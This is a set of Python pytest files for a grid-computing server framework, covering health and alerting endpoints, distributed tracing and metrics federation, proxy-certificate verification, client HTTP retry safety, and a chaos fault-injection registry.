                HTTPRequest(method="GET", path="/healthz"))
            assert response.status == 503
        finally:
            server.close()

    def test_forced_alert_flips_healthz_to_503(self, plane_ca):
        # A rule that is always true fires on the first beat; its critical
        # severity makes the node critical even though every probe is ok.
        server = build_site(
            plane_ca, "health-3",
            telemetry_alert_rules=[
                "forced: gauge(clarens_sessions_active) >= 0"])
        try:
            assert server.handle_request(
                HTTPRequest(method="GET", path="/healthz")).status == 200
            server.telemetry.beat()
            response = server.handle_request(
                HTTPRequest(method="GET", path="/healthz"))
            assert response.status == 503
            body = json.loads(bytes(response.body))
            assert body["status"] == STATUS_CRITICAL
            assert body["alerts_firing"] == 1
        finally:
            server.close()

    def test_warning_alert_only_degrades(self, plane_ca):
        server = build_site(
            plane_ca, "health-4",
            telemetry_alert_rules=["soft: gauge(clarens_sessions_active) "
                                   ">= 0 severity=warning"])
        try:
            server.telemetry.beat()
            response = server.handle_request(
                HTTPRequest(method="GET", path="/healthz"))
            assert response.status == 200
            assert json.loads(bytes(response.body))["status"] == \
                STATUS_DEGRADED
        finally:
            server.close()

    def test_system_health_requires_identity(self, plane_ca,
                                             admin_credential,
                                             user_credential):
        server = build_site(plane_ca, "health-5")
        try:
            anonymous = ClarensClient.for_loopback(server.loopback())
            with pytest.raises(Fault):
                anonymous.call("system.health")
            anonymous.close()
            user = login(server, user_credential)
            payload = user.call("system.health")
            assert payload["server"] == "health-5"
            assert payload["status"] == STATUS_OK
            assert payload["alerts"] == {"local": [], "fleet": []}
            user.close()
        finally:
            server.close()


# ---------------------------------------------------------------------------
# The socket mesh (two telemetry-enabled servers, real fabric channels)
# ---------------------------------------------------------------------------

def reserve_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture()
def plane_mesh(plane_ca):
    """Two telemetry-enabled socket servers peered both ways.

    Site A additionally carries an alert rule that holds whenever a session
    is live there (used by the fabric-wide firing test; critical severity,
    so a firing takes A's ``/healthz`` to 503).  Yields
    ``(site_a, site_b, ports)``.
    """

    ports = {"obs-a": reserve_port(), "obs-b": reserve_port()}
    hosts = {site: plane_ca.issue_host(f"{site}.clarens.test")
             for site in ports}
    dns = {site: str(hosts[site].certificate.subject) for site in ports}
    servers, socks = {}, {}
    rules = {"obs-a": ["forced: gauge(clarens_sessions_active) "
                       ">= 1 severity=critical"],
             "obs-b": []}
    try:
        for site, other in (("obs-a", "obs-b"), ("obs-b", "obs-a")):
            config = ServerConfig(
                server_name=site, admins=[OPS_DN], host_dn=dns[site],
                telemetry_enabled=True, cache_enabled=True,
                telemetry_alert_rules=rules[site],
                fabric_peers=[f"{other}=http://127.0.0.1:"
                              f"{ports[other]}/|{dns[other]}"])
            servers[site] = ClarensServer(config, credential=hosts[site],
                                          trust_store=plane_ca.trust_store())
            socks[site] = servers[site].socket_server(port=ports[site])
            socks[site].__enter__()
        yield servers["obs-a"], servers["obs-b"], ports
    finally:
        for sock in socks.values():
            sock.__exit__(None, None, None)
        for server in servers.values():
            server.close()


DATA = b"observability payload bytes " * 512


def seed_remote_lfn(site_a, site_b, admin_b, lfn):
    """Write ``lfn`` on B and register it in A's catalogue on the peer SE."""

    admin_b.call("file.write", lfn, DATA, False)
    admin_b.call("replica.register", lfn, "local", lfn)
    checksum = site_b.services["replica"].catalogue.entry(lfn)["checksum"]
    site_a.services["replica"].catalogue.register(
        lfn, "obs-b", lfn, size=len(DATA), checksum=checksum)
    return checksum


def http_get(port, path):
    import http.client
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request("GET", path)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


class TestTraceTreeAssembly:
    def test_quarantine_heal_is_one_tree_from_either_server(
            self, plane_mesh, admin_credential):
        """The issue's acceptance criterion: verify → quarantine → heal →
        peer pull spanning two socket servers, retrievable as ONE assembled
        span tree via ``system.trace_tree`` from either server."""

        site_a, site_b, _ = plane_mesh
        admin_a = login(site_a, admin_credential)
        admin_b = login(site_b, admin_credential)
        lfn = "/lfn/obs/gov/heal.dat"
        seed_remote_lfn(site_a, site_b, admin_b, lfn)
        admin_a.call("file.write", lfn, DATA, False)
        admin_a.call("replica.register", lfn, "local", lfn)
        admin_a.call("replica.set_policy", "/lfn/obs/gov", 2)

        admin_a.call("file.write", lfn, b"bit rot", False)
        entry = admin_a.call("replica.verify", lfn, "local")
        assert entry["replicas"]["local"]["state"] == "quarantined"
        deadline = time.monotonic() + 15.0
        while time.monotonic() < deadline:
            states = {se: r["state"] for se, r in
                      admin_a.call("replica.stat", lfn)["replicas"].items()}
            if sum(1 for s in states.values() if s == "active") >= 2:
                break
            time.sleep(0.02)
        else:
            raise AssertionError(f"heal never restored 2 copies: {states}")

        spans_a = admin_a.call("system.trace")["spans"]
        verify = [s for s in spans_a if s["method"] == "replica.verify"][-1]
        trace_id = verify["trace_id"]

        for admin, querying in ((admin_a, "obs-a"), (admin_b, "obs-b")):
            tree = admin.fetch_trace(trace_id)
            assert tree["trace_id"] == trace_id
            assert tree["partial"] is False, tree["unreachable"]
            assert sorted(tree["servers"]) == ["obs-a", "obs-b"]
            spans = tree["spans"]
            assert {s["server"] for s in spans} == {"obs-a", "obs-b"}
            assert all(s["trace_id"] == trace_id for s in spans)
            assert tree["span_count"] == len(spans)
            # The verify RPC roots the tree; the cross-server reads (the
            # heal worker's stat/ranged GETs on B) appear as descendants
            # or as flagged partial orphans — never silently re-rooted.
            roots = tree["tree"]
            assert any(r["method"] == "replica.verify" for r in roots)

            def walk(nodes):
                for node in nodes:
                    yield node
                    yield from walk(node["children"])

            walked = list(walk(roots))
            assert len(walked) == len(spans)
            remote = [n for n in walked if n["server"] == "obs-b"]
            assert remote, f"no obs-b spans in the tree from {querying}"
            for orphan in (n for n in walked if n.get("missing_parent")):
                assert orphan["parent_id"], "rooted span flagged as orphan"
        admin_a.close()
        admin_b.close()

    def test_dead_peer_makes_tree_partial_not_error(self, plane_mesh,
                                                    admin_credential):
        site_a, _, _ = plane_mesh
        site_a.fabric.add_peer("ghost", url="http://127.0.0.1:1/",
                               attach_storage=False)
        admin_a = login(site_a, admin_credential)
        admin_a.call("system.ping")
        spans = admin_a.call("system.trace")["spans"]
        trace_id = spans[-1]["trace_id"]

        tree = admin_a.fetch_trace(trace_id)
        assert tree["partial"] is True
        assert "ghost" in tree["unreachable"]
        assert "obs-b" not in tree["unreachable"]
        assert tree["spans"], "local spans lost because a peer was dead"
        admin_a.close()

    def test_trace_tree_is_admin_only_but_trace_accepts_peers(
            self, plane_mesh, admin_credential, user_credential):
        site_a, site_b, _ = plane_mesh
        user_a = login(site_a, user_credential)
        with pytest.raises(Fault):
            user_a.call("system.trace_tree", "0" * 16)
        with pytest.raises(Fault):
            user_a.call("system.trace")
        user_a.close()
        # B's channel to A authenticates with B's host credential, which is
        # in A's trusted peer DNs: the fan-out call is accepted.
        result = site_b.fabric.channels["obs-a"].call("system.trace",
                                                      retry=False)
        assert result["server"] == "obs-a"


class TestMetricsFederation:
    def test_scrape_carries_all_servers_and_degrades_partial(
            self, plane_mesh, admin_credential):
        site_a, site_b, ports = plane_mesh
        admin_a = login(site_a, admin_credential)
        admin_b = login(site_b, admin_credential)
        admin_a.call("system.ping")
        admin_b.call("system.ping")

        status, body = http_get(ports["obs-a"], "/metrics/federation")
        assert status == 200
        text = body.decode()
        assert "# federation: servers=2 unreachable=0" in text
        for site in ("obs-a", "obs-b"):
            assert f'clarens_requests_total{{server="{site}"' in text
        # One TYPE line per family even though two servers declared it.
        assert text.count("# TYPE clarens_requests_total counter") == 1

        # A dead peer degrades the scrape to partial; it must not fail.
        site_a.fabric.add_peer("ghost", url="http://127.0.0.1:1/",
                               attach_storage=False)
        body2, meta = site_a.telemetry.federation.render(force=True)
        assert meta["partial"] is True
        assert "ghost" in meta["unreachable"]
        assert "obs-b" not in meta["unreachable"]
        assert 'clarens_requests_total{server="obs-a"' in body2
        assert 'clarens_requests_total{server="obs-b"' in body2
        assert "# federation: peer ghost unreachable:" in body2
        admin_a.close()
        admin_b.close()

    def test_cache_prevents_fanout_stampede(self, plane_mesh,
                                            admin_credential):
        site_a, _, ports = plane_mesh
        federation = site_a.telemetry.federation
        first, _ = federation.render(force=True)
        calls_before = site_a.fabric.channels["obs-b"].stats()["calls"]
        bodies = []
        threads = [threading.Thread(
            target=lambda: bodies.append(federation.render()[0]))
            for _ in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert all(b == first for b in bodies)
        assert site_a.fabric.channels["obs-b"].stats()["calls"] == \
            calls_before

    def test_fabric_metrics_rpc_is_peer_fenced(self, plane_mesh,
                                               user_credential):
        site_a, site_b, _ = plane_mesh
        user_a = login(site_a, user_credential)
        with pytest.raises(Fault):
            user_a.call("fabric.metrics")
        user_a.close()
        result = site_b.fabric.channels["obs-a"].call("fabric.metrics",
                                                      retry=False)
        assert result["server"] == "obs-a"
        assert "clarens_requests_total" in result["exposition"]


class TestFleetAlerting:
    def test_alert_fires_exactly_once_fabric_wide_and_flips_healthz(
            self, plane_mesh, admin_credential):
        site_a, site_b, ports = plane_mesh
        fired_on_b = []
        site_b.message_bus.subscribe(
            "telemetry.alert.fired",
            lambda m: fired_on_b.append(dict(m.payload)))

        # No session yet: the rule (sessions >= 1) holds nowhere.
        assert http_get(ports["obs-a"], "/healthz")[0] == 200
        admin_a = login(site_a, admin_credential)

        # Several beats, several gossip flushes: the transition publishes
        # once at the origin, crosses the fabric once, and is not re-fired
        # by subsequent beats.
        for _ in range(3):
            site_a.telemetry.beat()
            site_a.fabric.gossip.flush()
        deadline = time.monotonic() + 5.0
        while time.monotonic() < deadline and not fired_on_b:
            time.sleep(0.02)
        assert len(fired_on_b) == 1, fired_on_b
        assert fired_on_b[0]["rule"] == "forced"
        assert fired_on_b[0]["server"] == "obs-a"

        # B's health model recorded the foreign firing; B's own health is
        # untouched (the rule lives on A), so B keeps serving 200.
        payload = site_b.telemetry.health.evaluate()
        fleet_rules = [(a["server"], a["rule"])
                       for a in payload["alerts"]["fleet"]]
        assert fleet_rules == [("obs-a", "forced")]
        assert payload["alerts"]["local"] == []
        assert http_get(ports["obs-b"], "/healthz")[0] == 200

        # The critical firing takes A's /healthz to 503.
        status, body = http_get(ports["obs-a"], "/healthz")
        assert status == 503
        assert json.loads(body)["status"] == STATUS_CRITICAL

        # Gossiped health summaries give A's status to B's fleet view.
        site_a.telemetry.beat()
        site_a.fabric.gossip.flush()
        deadline = time.monotonic() + 5.0
        while time.monotonic() < deadline:
            fleet = site_b.telemetry.health.evaluate()["fleet"]
            if any(name.split("#", 1)[0] == "obs-a" for name in fleet):
                break
            time.sleep(0.02)
        summary = next(v for k, v in fleet.items()
                       if k.split("#", 1)[0] == "obs-a")
        assert summary["status"] == STATUS_CRITICAL
        assert summary["alerts_firing"] == 1
        assert summary["stale"] is False

        # Recovery: once the session closes, /healthz on A returns to 200.

        # Logout clears the condition: the next beat resolves it fleet-wide.
        admin_a.logout()
        site_a.telemetry.beat()
        site_a.fabric.gossip.flush()
        deadline = time.monotonic() + 5.0
        while time.monotonic() < deadline:
            if not site_b.telemetry.health.evaluate()["alerts"]["fleet"]:
                break
            time.sleep(0.02)
        assert site_b.telemetry.health.evaluate()["alerts"]["fleet"] == []
        assert http_get(ports["obs-a"], "/healthz")[0] == 200
        admin_a.close()


class TestConcurrentScrapes:
    def test_metrics_scrapes_stay_whole_under_hot_dispatch(self, plane_ca,
                                                           user_credential):
        """Concurrent ``/metrics`` scrapes during a dispatch storm must
        never tear: every line parses, every family declares its TYPE
        before its samples, and the family set is stable between scrapes."""

        server = build_site(plane_ca, "hot-1", cache_enabled=True)
        try:
            client = login(server, user_credential)
            client.call("system.ping")   # prime every hot-path family
            stop = threading.Event()
            errors = []

            def hammer():
                c = login(server, user_credential)
                while not stop.is_set():
                    try:
                        c.call("system.echo", "x")
                    except Exception as exc:  # pragma: no cover
                        errors.append(exc)
                        return
                c.close()

            workers = [threading.Thread(target=hammer) for _ in range(4)]
            for w in workers:
                w.start()
            try:
                expositions = []
                for _ in range(20):
                    response = server.handle_request(
                        HTTPRequest(method="GET", path="/metrics"))
                    assert response.status == 200
                    expositions.append(bytes(response.body).decode())
            finally:
                stop.set()
                for w in workers:
                    w.join()
            assert not errors

            import re
            sample_re = re.compile(
                r"^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[^{}]*\})? "
                r"(?:[0-9.e+-]+|\+Inf|NaN)$")
            family_sets = []
            for text in expositions:
                declared = set()
                for line in text.splitlines():
                    if line.startswith("# TYPE "):
                        declared.add(line.split(" ")[2])
                        continue
                    if not line or line.startswith("#"):
                        continue
                    assert sample_re.match(line), f"torn line: {line!r}"
                    name = line.split("{", 1)[0].split(" ", 1)[0]
                    assert any(name == d or name.startswith(d + "_")
                               for d in declared), \
                        f"sample {name} before its TYPE declaration"
                family_sets.append(frozenset(declared))
            assert len(set(family_sets)) == 1, "series set was not stable"
            client.close()
        finally:
            server.close()


class TestSlowRequestEvents:
    def test_slow_request_event_carries_trace_id(self, plane_ca,
                                                 user_credential):
        server = build_site(plane_ca, "slow-1", telemetry_slow_ms=0.0001)
        try:
            events = []
            server.message_bus.subscribe(
                "telemetry.slow_request",
                lambda m: events.append(dict(m.payload)))
            client = login(server, user_credential)
            client.call("system.ping")
            assert events, "a ~0ms budget must flag every request slow"
            event = events[-1]
            assert event["method"] == "system.ping"
            assert event["trace_id"]
            spans = server.telemetry.recorder.by_trace(event["trace_id"])
            assert any(s.span_id == event["span_id"] for s in spans)
            # The slow-log entry itself carries the same trace id.
            entries = server.telemetry.slow_log.entries()
            assert any(e["trace_id"] == event["trace_id"] for e in entries)
            client.close()
        finally:
            server.close()


# ---------------------------------------------------------------------------
# The monitoring glue rides the registry path now
# ---------------------------------------------------------------------------

class TestRegistryGlue:
    def test_cache_reporter_registers_scrape_collectors(self):
        from repro.cache.core import CacheRegistry
        from repro.monitoring.cachemetrics import CacheStatsReporter

        caches = CacheRegistry()
        cache = caches.create("unit.cache", maxsize=8, ttl=None)
        cache.put("k", "v")
        cache.get("k")
        cache.get("missing")
        registry = MetricsRegistry()
        reporter = CacheStatsReporter(caches)
        assert reporter.publish_to_registry(registry) is True
        # Idempotent: a second wiring (or a server that attached first) is
        # a no-op, not a crash.
        assert reporter.publish_to_registry(registry) is False
        text = registry.render()
        assert ('clarens_cache_operations_total'
                '{cache="unit.cache",kind="hits"} 1') in text
        assert 'clarens_cache_size{cache="unit.cache"} 1' in text
        cache.get("k")   # scrape-time sampling: no re-publish needed
        assert ('clarens_cache_operations_total'
                '{cache="unit.cache",kind="hits"} 2') in registry.render()

    def test_monalisa_exports_to_registry(self):
        from repro.monitoring.monalisa import MonALISARepository

        bus = MessageBus()
        repo = MonALISARepository(bus)
        bus.publish("monalisa.cms.metric",
                    {"site": "cern", "farm": "f1", "node": "n1",
                     "key": "cpu", "value": 0.5}, source="station")
        registry = MetricsRegistry()
        assert repo.export_to_registry(registry) is True
        assert repo.export_to_registry(registry) is False
        text = registry.render()
        assert 'clarens_monalisa_entities{kind="sites"} 1' in text
        assert "clarens_monalisa_metric_updates_total 1" in text
        repo.close()
