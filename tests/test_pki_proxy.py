"""Proxy certificates: issuance, delegation and verification rules."""

from __future__ import annotations

import time

import pytest

from repro.pki.authority import CertificateAuthority
from repro.pki.certificate import VerificationError
from repro.pki.proxy import ProxyCertificate, issue_proxy, verify_proxy_chain


@pytest.fixture(scope="module")
def authority():
    return CertificateAuthority("/O=grid.test/CN=Proxy CA", key_bits=512)


@pytest.fixture(scope="module")
def user(authority):
    return authority.issue_user("Paula Proxy")


@pytest.fixture()
def proxy(user):
    return issue_proxy(user, lifetime=3600.0)


class TestIssuance:
    def test_subject_gets_cn_proxy_suffix(self, user, proxy):
        assert str(proxy.subject) == str(user.certificate.subject) + "/CN=proxy"
        assert proxy.certificate.is_proxy
        assert proxy.owner_dn == user.certificate.subject

    def test_limited_proxy_naming(self, user):
        limited = issue_proxy(user, limited=True)
        assert limited.subject.rdns[-1].value == "limited proxy"
        assert limited.limited

    def test_lifetime_clipped_to_issuer(self, authority):
        short = authority.issue("/O=grid.test/CN=shortlived", lifetime=5.0)
        proxy = issue_proxy(short, lifetime=10 * 3600.0)
        assert proxy.certificate.not_after <= short.certificate.not_after + 1e-6

    def test_cannot_issue_from_expired_credential(self, authority):
        expired = authority.issue("/O=grid.test/CN=gone", lifetime=0.001)
        time.sleep(0.01)
        with pytest.raises(VerificationError):
            issue_proxy(expired)

    def test_delegation_depth_counts_levels(self, user, proxy):
        second = issue_proxy(proxy.credential)
        third = issue_proxy(second.credential)
        assert proxy.delegation_depth == 1
        assert second.delegation_depth == 2
        assert third.delegation_depth == 3
        assert third.owner_dn == user.certificate.subject

    def test_time_left_positive_then_expired(self, user):
        proxy = issue_proxy(user, lifetime=3600.0)
        assert proxy.time_left() > 3500
        assert not proxy.is_expired()

    def test_dict_round_trip(self, proxy):
        restored = ProxyCertificate.from_dict(proxy.to_dict())
        assert restored.certificate == proxy.certificate
        assert restored.owner_dn == proxy.owner_dn


class TestVerification:
    def test_valid_proxy_authenticates_owner(self, authority, user, proxy):
        owner = verify_proxy_chain(proxy, authority.trust_store())
        assert owner == user.certificate.subject

    def test_delegated_proxy_authenticates_original_owner(self, authority, user, proxy):
        delegated = issue_proxy(proxy.credential)
        owner = verify_proxy_chain(delegated, authority.trust_store())
        assert owner == user.certificate.subject

    def test_untrusted_root_rejected(self, proxy):
        other = CertificateAuthority("/O=grid.test/CN=Enemy CA", key_bits=256)
        with pytest.raises(VerificationError):
            verify_proxy_chain(proxy, other.trust_store())

    def test_expired_proxy_rejected(self, authority, user):
        proxy = issue_proxy(user, lifetime=0.001)
        time.sleep(0.01)
        with pytest.raises(VerificationError):
            verify_proxy_chain(proxy, authority.trust_store())

    def test_delegation_depth_limit_enforced(self, authority, user):
        proxy = issue_proxy(user)
        for _ in range(3):
            proxy = issue_proxy(proxy.credential)
        with pytest.raises(VerificationError, match="delegation depth"):
            verify_proxy_chain(proxy, authority.trust_store(), max_delegation_depth=2)

    def test_plain_chain_without_proxy_rejected(self, authority, user):
        with pytest.raises(VerificationError, match="does not contain a proxy"):
            verify_proxy_chain(list(user.full_chain()), authority.trust_store())

    def test_limited_proxy_cannot_delegate_full_proxy(self, authority, user):
        limited = issue_proxy(user, limited=True)
        # Forging a *full* proxy below a limited one must be rejected.
        full_below_limited = issue_proxy(limited.credential, limited=False)
        with pytest.raises(VerificationError, match="limited"):
            verify_proxy_chain(full_below_limited, authority.trust_store())

    def test_limited_chain_of_limited_proxies_is_fine(self, authority, user):
        limited = issue_proxy(user, limited=True)
        deeper = issue_proxy(limited.credential, limited=True)
        owner = verify_proxy_chain(deeper, authority.trust_store())
        assert owner == user.certificate.subject

    def test_revoked_user_certificate_invalidates_proxy(self, authority):
        victim = authority.issue_user("Revoked Owner")
        proxy = issue_proxy(victim)
        authority.revoke(victim.certificate)
        with pytest.raises(VerificationError, match="revoked"):
            verify_proxy_chain(proxy, authority.trust_store(),
                               revoked_serials=authority.crl())

    def test_empty_chain_rejected(self, authority):
        with pytest.raises(VerificationError):
            verify_proxy_chain([], authority.trust_store())
