"""Client library: transports, login flows, file helpers, async load client."""

from __future__ import annotations

import hashlib
import socket
import threading

import pytest

from repro.client.asyncclient import (AsyncLoadClient, PipelinedLoadClient,
                                      _split)
from repro.client.client import ClarensClient
from repro.client.errors import ClientError, TransportError
from repro.client.files import download_file, download_file_rpc, upload_file
from repro.client.transport import HTTPTransport
from repro.protocols import JSONRPCCodec, SOAPCodec
from repro.protocols.errors import Fault


class TestClientBasics:
    def test_login_logout_cycle(self, server, loopback, alice_credential):
        client = ClarensClient.for_loopback(loopback)
        assert not client.authenticated
        session = client.login_with_credential(alice_credential)
        assert client.authenticated and session["method"] == "certificate"
        assert client.logout() is True
        assert not client.authenticated

    def test_call_raises_fault(self, client):
        with pytest.raises(Fault):
            client.call("system.method_help", "does.not.exist")

    def test_try_call_returns_fault(self, client):
        result, fault = client.try_call("system.ping")
        assert result == "pong" and fault is None
        result, fault = client.try_call("nope.nothing")
        assert result is None and fault is not None

    def test_alternate_codecs(self, server, loopback, alice_credential):
        for codec in (JSONRPCCodec(), SOAPCodec()):
            client = ClarensClient.for_loopback(loopback, codec=codec)
            client.login_with_credential(alice_credential)
            assert client.call("system.ping") == "pong"
            assert client.whoami()["authenticated"] is True

    def test_convenience_wrappers(self, client, server):
        assert "system.echo" in client.list_methods()
        assert client.server_info()["server_name"] == server.config.server_name

    def test_proxy_login_flow(self, server, loopback, alice_credential):
        from repro.pki.proxy import issue_proxy

        client = ClarensClient.for_loopback(loopback)
        session = client.login_with_proxy(issue_proxy(alice_credential))
        assert session["method"] == "proxy"
        assert client.whoami()["dn"] == str(alice_credential.certificate.subject)

    def test_tls_login_flow(self, server, alice_credential):
        tls = server.loopback(tls=True)
        client = ClarensClient.for_loopback(tls, credential=alice_credential)
        session = client.login_tls()
        assert session["dn"] == str(alice_credential.certificate.subject)
        # A fresh file root holds only the SRM transfer area the server creates.
        assert {e["name"] for e in client.call("file.ls", "/")} <= {"srm-transfers"}

    def test_custom_url_prefix(self, ca, host_credential):
        from tests.conftest import build_server

        server = build_server(ca, host_credential, url_prefix="/grid")
        try:
            client = ClarensClient.for_loopback(server.loopback(), url_prefix="/grid")
            assert client.call("system.ping") == "pong"
        finally:
            server.close()

    def test_http_transport_bad_url(self):
        with pytest.raises(TransportError):
            HTTPTransport("ftp://host/path")
        with pytest.raises(TransportError):
            HTTPTransport("http://")

    def test_client_over_real_socket(self, server, alice_credential):
        with server.socket_server() as sock:
            client = ClarensClient.for_url(sock.url)
            client.login_with_credential(alice_credential)
            assert client.call("system.ping") == "pong"
            assert len(client.list_methods()) > 30
            client.close()


class _ScriptedHTTP:
    """A raw-socket HTTP stub whose per-connection behaviour is scripted.

    Scripts, one per accepted connection:

    * ``"close"``      — close immediately, without reading (stale socket);
    * ``"read_close"`` — read one full request, record it, close without
      responding (the server died *after* consuming the request);
    * ``"serve"``      — read requests, record each, answer 200 until EOF.
    """

    _OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"

    def __init__(self, *scripts: str) -> None:
        self.scripts = scripts
        self.requests: list[bytes] = []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(5)
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        host, port = self.listener.getsockname()
        return f"http://{host}:{port}"

    def close(self) -> None:
        self.listener.close()
        self.thread.join(timeout=5)

    def _serve(self) -> None:
        for script in self.scripts:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                if script == "close":
                    continue
                while True:
                    request = self._read_request(conn)
                    if request is None:
                        break
                    self.requests.append(request)
                    if script == "read_close":
                        break
                    conn.sendall(self._OK)

    def _read_request(self, conn: socket.socket) -> bytes | None:
        data = b""
        while b"\r\n\r\n" not in data:
            try:
                part = conn.recv(4096)
            except OSError:
                return None
            if not part:
                return None
            data += part
        head, body = data.split(b"\r\n\r\n", 1)
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        while len(body) < length:
            part = conn.recv(4096)
            if not part:
                break
            body += part
        return head + b"\r\n\r\n" + body


class TestHTTPTransportRetrySafety:
    """The keep-alive reconnect rule: retry only when a replay is provably
    safe (idempotent method, or no body bytes ever hit the wire)."""

    def test_get_survives_server_closing_first_connection(self):
        stub = _ScriptedHTTP("close", "serve")
        transport = HTTPTransport(stub.url)
        try:
            assert transport.request("GET", "/retry-me").status == 200
            assert len(stub.requests) == 1      # one delivered copy
        finally:
            transport.close()
            stub.close()

    def test_bodyless_post_retried_before_body_bytes(self):
        stub = _ScriptedHTTP("close", "serve")
        transport = HTTPTransport(stub.url)
        try:
            assert transport.request("POST", "/no-body").status == 200
            assert len(stub.requests) == 1
        finally:
            transport.close()
            stub.close()

    def test_post_with_delivered_body_is_never_replayed(self):
        """The regression: a POST the server consumed (and may have
        executed) before dying must surface an error, not be silently
        resent on a fresh connection."""

        stub = _ScriptedHTTP("read_close", "serve")
        transport = HTTPTransport(stub.url)
        try:
            with pytest.raises(TransportError):
                transport.request("POST", "/rpc", body=b"debit-account-once")
            copies = [r for r in stub.requests if b"debit-account-once" in r]
            assert len(copies) == 1             # exactly one copy on the wire
        finally:
            transport.close()
            stub.close()


class TestPipelinedLoadClient:
    def test_batch_over_async_frontend(self, server):
        with server.async_server() as frontend:
            load = PipelinedLoadClient(frontend.url, server.config.rpc_path(),
                                       n_clients=2, pipeline_depth=4)
            result = load.run_batch(40)
        assert result.calls == 40
        assert result.errors == 0
        assert result.calls_per_second > 0

    def test_invalid_parameters(self):
        with pytest.raises(ValueError):
            PipelinedLoadClient("http://127.0.0.1:1", n_clients=0)
        with pytest.raises(ValueError):
            PipelinedLoadClient("http://127.0.0.1:1", pipeline_depth=0)


class TestFileHelpers:
    @pytest.fixture()
    def dataset(self, admin_client):
        payload = b"event-record " * 5000
        admin_client.call("file.write", "/datasets/run1.dat", payload, False)
        return payload

    def test_download_via_get_with_checksum(self, dataset, client, tmp_path):
        local = tmp_path / "run1.dat"
        data = download_file(client, "/datasets/run1.dat", local, verify_checksum=True)
        assert data == dataset
        assert local.read_bytes() == dataset

    def test_download_via_rpc_chunks(self, dataset, client):
        data = download_file_rpc(client, "/datasets/run1.dat", chunk_size=1000,
                                 verify_checksum=True)
        assert data == dataset
        assert hashlib.md5(data).hexdigest() == client.call("file.md5", "/datasets/run1.dat")

    def test_download_missing_file_raises(self, client):
        with pytest.raises(ClientError):
            download_file(client, "/datasets/absent.dat")

    def test_upload_round_trip(self, client, tmp_path):
        source = tmp_path / "upload.bin"
        source.write_bytes(b"\x00\x01\x02" * 4000)
        sent = upload_file(client, source, "/uploads/upload.bin", chunk_size=2048)
        assert sent == source.stat().st_size
        assert download_file_rpc(client, "/uploads/upload.bin") == source.read_bytes()

    def test_upload_empty_file(self, client, tmp_path):
        source = tmp_path / "empty.bin"
        source.write_bytes(b"")
        assert upload_file(client, source, "/uploads/empty.bin") == 0
        assert client.call("file.size", "/uploads/empty.bin") == 0


class TestAsyncLoadClient:
    def test_split_covers_total(self):
        assert _split(1000, 3) == [334, 333, 333]
        assert sum(_split(79, 7)) == 79
        assert _split(5, 8) == [1, 1, 1, 1, 1, 0, 0, 0]

    def test_batch_runs_requested_calls(self, server, loopback, alice_credential):
        def factory():
            c = ClarensClient.for_loopback(loopback)
            c.login_with_credential(alice_credential)
            return c

        with AsyncLoadClient(factory, n_clients=4) as load:
            result = load.run_batch(120)
        assert result.calls == 120
        assert result.errors == 0
        assert result.n_clients == 4
        assert result.calls_per_second > 0
        assert sum(result.per_client_calls) == 120

    def test_errors_counted_not_raised(self, server, loopback):
        def factory():
            return ClarensClient.for_loopback(loopback)  # not logged in

        with AsyncLoadClient(factory, n_clients=2) as load:
            result = load.run_batch(20, method="file.ls", params=("/",))
        assert result.errors == 20

    def test_multiple_batches(self, server, loopback, alice_credential):
        def factory():
            c = ClarensClient.for_loopback(loopback)
            c.login_with_credential(alice_credential)
            return c

        with AsyncLoadClient(factory, n_clients=2) as load:
            results = load.run_batches(3, calls_per_batch=30)
        assert len(results) == 3
        assert all(r.calls == 30 for r in results)

    def test_invalid_client_count(self, server, loopback):
        with pytest.raises(ValueError):
            AsyncLoadClient(lambda: ClarensClient.for_loopback(loopback), n_clients=0)
