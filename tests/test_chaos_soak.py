"""The soak-and-chaos harness.

Unit coverage for the pieces (fault-point registry semantics, the
controllable clock, deterministic fault schedules, config validation,
report plumbing) plus the tier-1 acceptance itself: a seconds-scale
three-server smoke soak over real sockets, every fault kind landing,
all watchdog invariants green.  A failing soak reprints its seed via the
``test_seed`` fixture, so ``REPRO_TEST_SEED=<seed>`` replays the run.
"""

from __future__ import annotations

import json

import pytest

from repro.chaos import (SMOKE_OVERRIDES, SoakConfig, SoakHarness,
                         append_report, build_report, build_schedule,
                         render_report)
from repro.core.clock import FakeClock
from repro.core.config import ConfigError
from repro.core.faults import FAULTS


# -- the fault-point registry --------------------------------------------------

class TestFaultRegistry:
    def test_rule_needs_an_action(self):
        with pytest.raises(ValueError):
            FAULTS.inject("p")

    def test_times_limits_then_rule_is_removed(self):
        rule = FAULTS.inject("p", exc=RuntimeError("boom"), times=2)
        for _ in range(2):
            with pytest.raises(RuntimeError):
                FAULTS.fire("p")
        FAULTS.fire("p")                       # exhausted: silent
        assert rule.fired == 2
        assert FAULTS.fired("p") == 2
        assert FAULTS.active() == []

    def test_after_skips_leading_matching_fires(self):
        FAULTS.inject("p", exc=RuntimeError, after=2)
        FAULTS.fire("p")
        FAULTS.fire("p")
        with pytest.raises(RuntimeError):
            FAULTS.fire("p")

    def test_match_restricts_to_context_subset(self):
        FAULTS.inject("p", exc=RuntimeError, match={"se": "se-b"}, times=None)
        FAULTS.fire("p", se="se-a")            # no match: silent
        with pytest.raises(RuntimeError):
            FAULTS.fire("p", se="se-b")

    def test_call_hook_may_mutate_context(self):
        FAULTS.inject("p", call=lambda ctx: ctx["entry"].update(skewed=True))
        payload: dict = {}
        FAULTS.fire("p", entry=payload)
        assert payload == {"skewed": True}

    def test_first_matching_rule_wins_then_yields(self):
        FAULTS.inject("p", exc=RuntimeError("first"), times=1)
        FAULTS.inject("p", exc=RuntimeError("second"), times=1)
        with pytest.raises(RuntimeError, match="first"):
            FAULTS.fire("p")
        with pytest.raises(RuntimeError, match="second"):
            FAULTS.fire("p")

    def test_cancel_and_clear_disarm(self):
        rule = FAULTS.inject("p", exc=RuntimeError, times=None)
